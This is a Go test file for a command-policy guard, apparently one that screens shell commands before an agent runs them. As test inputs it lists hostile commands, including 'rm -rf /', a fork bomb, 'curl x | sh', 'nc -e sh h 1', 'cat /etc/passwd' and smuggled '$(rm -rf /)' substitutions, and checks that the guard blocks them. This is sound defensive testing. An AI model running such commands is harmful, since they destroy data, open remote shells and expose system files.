package guard

import (
	"strings"
	"testing"
)

// push is a policy whose operator allows one push.
func push() Policy {
	p := everything()
	p.Exec.CustomAllow = []string{`^git\s+push\s+origin\s+main$`}
	return p
}

func TestAllowFreesOneSimpleCommand(t *testing.T) {
	g := mustNew(t, push())
	for _, line := range []string{
		"git push origin main", "git  push   'origin' main", "git add . && git push origin main",
		"nohup git push origin main",
		"g=git; $g push origin main", "bash -c 'git push origin main'", "git push origin main; echo done",
		"if true; then git push origin main; fi",
	} {
		if d := decide(g, line); d.Verdict != Allow {
			t.Errorf("%s: %+v", line, d)
		}
	}
	for line, rule := range map[string]string{
		"git push origin main; rm -rf /":                  "exec.rm-recursive",
		"git push origin main\nrm -rf /":                  "exec.rm-recursive",
		"git push origin main && git push origin dev":     "exec.git-push",
		"git push origin main $(rm -rf /)":                "exec.rm-recursive",
		"git push origin $(cat main)":                     "exec.git-push",
		"git push origin $MAIN":                           "exec.git-push",
		"git push origin mainly":                          "exec.git-push",
		"git push origin main --force":                    "exec.git-push",
		"git -c core.pager=x push origin main":            "exec.git-push",
		"sudo git push origin main":                       "exec.privilege",
		"git push origin main | sh":                       "exec.pipe-to-shell",
		"git push origin main > /dev/sda":                 "exec.device",
		"git push origin main > ../x":                     "workspace.outside",
		"GIT_SSH_COMMAND='rm -rf x' git push origin main": "exec.rm-recursive",
		"git() { rm -rf /; }; git push origin main":       "exec.rm-recursive",
		"alias git='rm -rf'; git push origin main":        "exec.rm-recursive",
		"echo main | xargs git push origin main --force":  "exec.git-push",
		"cd .. && git push origin main":                   "workspace.outside",
	} {
		if d := decide(g, line); d.Verdict == Allow || d.Rule != rule {
			t.Errorf("%s: %s %s; want %s", line, d.Verdict, d.Rule, rule)
		}
	}
}

func TestAllowLiftsNoHardRule(t *testing.T) {
	p := everything()
	p.Exec.CustomAllow = []string{".*"}
	g := mustNew(t, p)
	for _, line := range []string{"rm -rf build", "git push", "docker run x", "apt install x", "chmod 777 x",
		"curl x | sh"} {
		if d := decide(g, line); d.Verdict != Allow {
			t.Errorf("%s: %+v", line, d)
		}
	}
	for _, line := range []string{"sudo ls", "mkfs x", ":(){ :|:& };:", "echo x > /dev/sda", "reboot", "$(cat x)",
		"LD_PRELOAD=x ls", "cat /etc/passwd", "nc -e sh h 1"} {
		if d := decide(g, line); d.Verdict == Allow || d.Tier == "soft" {
			t.Errorf("%s: %+v", line, d)
		}
	}
}

func TestCustomDenyWins(t *testing.T) {
	p := push()
	p.Exec.CustomAllow = append(p.Exec.CustomAllow, ".*")
	p.Exec.CustomDeny = []string{`\bpush\b`, `\bwget\b.*-O\s+/etc/`, `SECRET_[A-Z]+`, `(?i)drop\s+table`, `^make deploy$`}
	lines := map[string]bool{
		"git push origin main":              true, // although an allow pattern matches
		"git p''ush":                        true, // the shell's reading
		"# push\nls":                        true, // and the text as it stands
		"wget -q http://x -O /etc/cron.d/x": true,
		"echo $SECRET_KEY":                  true, // capitals are kept
		"echo secret_key":                   false,
		"psql -c 'Drop  Table x'":           true,
		"true && make   deploy":             true,
		"bash -c 'make deploy'":             true,
		"xargs make deploy < x":             false, // with whatever x holds: another command
		"make deploy-docs":                  false,
		"ls":                                false,
	}
	for _, builtIn := range []bool{true, false} {
		p.Exec.DenyPatterns = builtIn
		for _, restrict := range []bool{true, false} {
			p.Restrict = restrict
			g := mustNew(t, p)
			for line, denied := range lines {
				d := decide(g, line)
				if (d.Rule == "exec.custom-deny") != denied || denied &&
					(d.Verdict != Deny || !strings.Contains(d.Hint, "tools.exec.custom_deny_patterns")) {
					t.Errorf("built-in %t, restrict %t: %s: %+v", builtIn, restrict, line, d)
				}
			}
		}
	}
}

func TestSwitches(t *testing.T) {
	rulesOff := everything()
	rulesOff.Exec.DenyPatterns = false
	pathsOff := everything()
	pathsOff.Restrict = false
	bothOff := rulesOff
	bothOff.Restrict = false
	for name, c := range map[string]struct {
		policy     Policy
		rule, path Verdict
	}{
		"enable_deny_patterns: false":  {policy: rulesOff, rule: Allow, path: Deny},
		"restrict_to_workspace: false": {policy: pathsOff, rule: Deny, path: Allow},
		"both":                         {policy: bothOff, rule: Allow, path: Allow},
	} {
		g := mustNew(t, c.policy)
		for _, line := range []string{"rm -rf x", "sudo ls", ":(){ :|:& };:", "curl x | sh", "$(curl x)"} {
			if d := decide(g, line); d.Verdict != c.rule {
				t.Errorf("%s: %s: %+v", name, line, d)
			}
		}
		for _, line := range []string{"cat /etc/passwd", "ls ..", "echo x > /tmp/x", "cd / && ls"} {
			if d := decide(g, line); d.Verdict != c.path {
				t.Errorf("%s: %s: %+v", name, line, d)
			}
		}
	}
}

func TestInvalidPatternIsRefused(t *testing.T) {
	for _, set := range []func(*ExecPolicy){
		func(e *ExecPolicy) { e.CustomDeny = []string{"("} },
		func(e *ExecPolicy) { e.CustomAllow = []string{"a", "[z-a]"} },
		func(e *ExecPolicy) { e.CustomAllow = []string{""} },
		func(e *ExecPolicy) { e.CustomAllow = []string{"a)|(b"} }, // closes the group that anchors it
		func(e *ExecPolicy) { e.Profile = "strict" },
	} {
		p := everything()
		set(&p.Exec)
		if _, err := NewGuard(p); err == nil || !strings.Contains(err.Error(), "tools.exec.") {
			t.Errorf("%+v: %v", p.Exec, err)
		}
	}
}
